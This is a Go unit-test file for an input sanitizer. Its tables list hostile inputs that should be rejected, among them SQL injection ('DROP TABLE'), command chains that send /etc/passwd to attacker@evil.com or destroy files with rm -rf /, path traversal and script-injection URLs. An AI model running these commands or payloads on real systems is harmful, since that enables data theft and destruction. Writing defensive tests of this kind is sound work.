package security

import (
	"errors"
	"strings"
	"testing"
)

func TestSanitizeStringSQLInjection(t *testing.T) {
	s := NewInputSanitizer()

	tests := []struct {
		name      string
		input     string
		shouldErr bool
	}{
		{"classic drop table", "'; DROP TABLE users; --", true},
		{"union select", "1 UNION SELECT password FROM accounts", true},
		{"comment marker", "name --", true},
		{"block comment", "a /* b */ c", true},
		{"stored procedure", "xp_cmdshell", true},
		{"lowercase keyword", "select * from t", true},
		{"plain name", "customers_2024", false},
		{"keyword inside word", "unselected", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.SanitizeString(tt.input, ContextSQLQuery)
			if tt.shouldErr && !errors.Is(err, ErrSQLInjection) {
				t.Errorf("SanitizeString(%q) = %v, want ErrSQLInjection", tt.input, err)
			}
			if !tt.shouldErr && err != nil {
				t.Errorf("SanitizeString(%q) = %v, want nil", tt.input, err)
			}
		})
	}
}

func TestSanitizeStringCommandInjection(t *testing.T) {
	s := NewInputSanitizer()

	tests := []struct {
		name      string
		input     string
		shouldErr bool
	}{
		{"pipe exfiltration", "cat /etc/passwd | mail attacker@evil.com", true},
		{"semicolon chain", "ls; rm -rf /", true},
		{"command substitution", "echo $(whoami)", true},
		{"backtick substitution", "echo `id`", true},
		{"and chain", "true && curl evil.com", true},
		{"output redirect", "echo pwned > /etc/motd", true},
		{"plain command", "ls -la /tmp", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.SanitizeString(tt.input, ContextCommand)
			if tt.shouldErr && !errors.Is(err, ErrCommandInjection) {
				t.Errorf("SanitizeString(%q) = %v, want ErrCommandInjection", tt.input, err)
			}
			if !tt.shouldErr && err != nil {
				t.Errorf("SanitizeString(%q) = %v, want nil", tt.input, err)
			}
		})
	}
}

func TestSanitizeStringPathInjection(t *testing.T) {
	s := NewInputSanitizer()

	tests := []struct {
		name      string
		input     string
		shouldErr bool
	}{
		{"relative traversal", "../../etc/passwd", true},
		{"windows traversal", `..\..\windows`, true},
		{"url encoded", "%2e%2e%2fetc%2fpasswd", true},
		{"double encoded", "%252e%252e/etc", true},
		{"tilde slash", "~/secrets", true},
		{"null byte", "safe.txt\x00.exe", true},
		{"plain absolute", "/var/data/report.txt", false},
		{"dots in name", "archive..2024.txt", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.SanitizeString(tt.input, ContextFilePath)
			if tt.shouldErr && !errors.Is(err, ErrPathInjection) {
				t.Errorf("SanitizeString(%q) = %v, want ErrPathInjection", tt.input, err)
			}
			if !tt.shouldErr && err != nil {
				t.Errorf("SanitizeString(%q) = %v, want nil", tt.input, err)
			}
		})
	}
}

func TestSanitizeStringWebURL(t *testing.T) {
	s := NewInputSanitizer()

	tests := []struct {
		name    string
		input   string
		wantErr error
	}{
		{"script tag", "https://x.com/<script>alert(1)</script>", ErrScriptInjection},
		{"javascript scheme", "javascript:alert(1)", ErrScriptInjection},
		{"event handler", "https://x.com/?q=onload=evil", ErrScriptInjection},
		{"eval call", "https://x.com/?q=eval(atob('x'))", ErrScriptInjection},
		{"missing scheme", "example.com/page", ErrInvalidURL},
		{"ftp scheme", "ftp://example.com/file", ErrInvalidURL},
		{"plain https", "https://example.com/api?page=2", nil},
		{"plain http", "http://example.com/", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.SanitizeString(tt.input, ContextWebURL)
			if tt.wantErr == nil {
				if err != nil {
					t.Errorf("SanitizeString(%q) = %v, want nil", tt.input, err)
				}
				return
			}
			if !errors.Is(err, tt.wantErr) {
				t.Errorf("SanitizeString(%q) = %v, want %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestSanitizeStringGeneric(t *testing.T) {
	s := NewInputSanitizer()

	out, err := s.SanitizeString("Hello, World!", ContextGeneric)
	if err != nil {
		t.Fatalf("SanitizeString = %v, want nil", err)
	}
	if out != "Hello, World!" {
		t.Errorf("benign input changed: %q", out)
	}

	out, err = s.SanitizeString("a\x00b\x07c\tnewline\n", ContextGeneric)
	if err != nil {
		t.Fatalf("SanitizeString = %v, want nil", err)
	}
	if out != "abc\tnewline\n" {
		t.Errorf("control stripping = %q, want %q", out, "abc\tnewline\n")
	}

	long := strings.Repeat("a", maxGenericInputLen+1)
	if _, err := s.SanitizeString(long, ContextGeneric); !errors.Is(err, ErrInputTooLong) {
		t.Errorf("oversized input = %v, want ErrInputTooLong", err)
	}
}

// Sanitization is idempotent: running an accepted output through the
// sanitizer again yields the same value.
func TestSanitizeStringIdempotent(t *testing.T) {
	s := NewInputSanitizer()

	inputs := []string{
		"Hello, World!",
		"a\x00b\x07c with\tcontrol chars\n",
		"unicode: héllo wörld 日本語",
	}

	for _, input := range inputs {
		once, err := s.SanitizeString(input, ContextGeneric)
		if err != nil {
			t.Fatalf("first pass on %q: %v", input, err)
		}
		twice, err := s.SanitizeString(once, ContextGeneric)
		if err != nil {
			t.Fatalf("second pass on %q: %v", once, err)
		}
		if once != twice {
			t.Errorf("not idempotent: %q -> %q -> %q", input, once, twice)
		}
	}
}

func TestSanitizeJSON(t *testing.T) {
	s := NewInputSanitizer()

	t.Run("recurses into nested values", func(t *testing.T) {
		input := map[string]any{
			"name": "report\x00",
			"tags": []any{"a\x01", "b"},
			"nested": map[string]any{
				"count": float64(3),
				"ok":    true,
			},
		}

		out, err := s.SanitizeJSON(input, ContextGeneric)
		if err != nil {
			t.Fatalf("SanitizeJSON = %v", err)
		}

		m := out.(map[string]any)
		if m["name"] != "report" {
			t.Errorf("name = %q, want control chars stripped", m["name"])
		}
		tags := m["tags"].([]any)
		if tags[0] != "a" || tags[1] != "b" {
			t.Errorf("tags = %v", tags)
		}
		nested := m["nested"].(map[string]any)
		if nested["count"] != float64(3) || nested["ok"] != true {
			t.Errorf("non-string values changed: %v", nested)
		}
	})

	t.Run("rejects oversized key", func(t *testing.T) {
		input := map[string]any{strings.Repeat("k", maxJSONKeyLen+1): "v"}
		if _, err := s.SanitizeJSON(input, ContextGeneric); !errors.Is(err, ErrInvalidJSONKey) {
			t.Errorf("SanitizeJSON = %v, want ErrInvalidJSONKey", err)
		}
	})

	t.Run("rejects null byte in key", func(t *testing.T) {
		input := map[string]any{"k\x00ey": "v"}
		if _, err := s.SanitizeJSON(input, ContextGeneric); !errors.Is(err, ErrInvalidJSONKey) {
			t.Errorf("SanitizeJSON = %v, want ErrInvalidJSONKey", err)
		}
	})

	t.Run("propagates string rejection", func(t *testing.T) {
		input := map[string]any{"query": "'; DROP TABLE users; --"}
		if _, err := s.SanitizeJSON(input, ContextSQLQuery); !errors.Is(err, ErrSQLInjection) {
			t.Errorf("SanitizeJSON = %v, want ErrSQLInjection", err)
		}
	})

	t.Run("nil passes through", func(t *testing.T) {
		out, err := s.SanitizeJSON(nil, ContextGeneric)
		if err != nil || out != nil {
			t.Errorf("SanitizeJSON(nil) = %v, %v, want nil, nil", out, err)
		}
	})
}
